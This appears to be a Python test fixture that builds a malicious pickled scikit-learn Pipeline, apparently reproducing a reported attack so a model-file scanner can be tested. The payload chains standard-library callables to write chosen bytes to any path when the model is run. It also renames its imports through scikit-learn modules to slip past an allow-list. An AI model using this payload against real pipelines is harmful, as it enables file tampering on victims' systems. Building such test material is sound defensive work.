"""Pickle payloads from reported attacks, built for the scanner and checker tests."""

from __future__ import annotations

import pickle
from collections import defaultdict
from functools import partial
from operator import attrgetter, itemgetter
from pathlib import Path

# Each stdlib object the chain uses, and a scikit-learn module that imports it (the
# names the report used: the old allow-list accepted any *type* reachable that way).
REEXPORTED = {
    b"cfunctools\npartial\n": b"csklearn.compose._column_transformer\npartial\n",
    b"coperator\nattrgetter\n": b"csklearn.feature_selection._base\nattrgetter\n",
    b"coperator\nitemgetter\n": b"csklearn.feature_extraction._dict_vectorizer\nitemgetter\n",
    b"ccollections\ndefaultdict\n": b"csklearn.base\ndefaultdict\n",
    b"cpathlib\nPosixPath\n": b"csklearn.utils.discovery\nPath\n",
}


def function_transformer_chain(target: Path, data: bytes, *, protocol: int = 2) -> bytes:
    """Issue 12's payload: a Pipeline of FunctionTransformers whose ``transform`` (what
    the checker runs on the sample, an (n, 2) array) writes ``data`` to ``target``.

    a: defaultdict(partial(attrgetter("write_bytes"), Path(target)), X)
    b: itemgetter("x")(that)           -> the factory runs: Path(target).write_bytes
    c: partial(that, data=data)
    d: defaultdict(that)
    e: itemgetter("x")(that)           -> Path(target).write_bytes(data=data)
    """
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    steps = [
        (
            "a",
            FunctionTransformer(partial(defaultdict, partial(attrgetter("write_bytes"), target))),
        ),
        ("b", FunctionTransformer(itemgetter("x"))),
        ("c", FunctionTransformer(partial, kw_args={"data": data})),
        ("d", FunctionTransformer(defaultdict)),
        ("e", FunctionTransformer(itemgetter("x"))),
    ]
    raw = pickle.dumps(Pipeline(steps), protocol=protocol)
    for plain, through_sklearn in REEXPORTED.items():
        assert plain in raw, plain
        raw = raw.replace(plain, through_sklearn)
    return raw
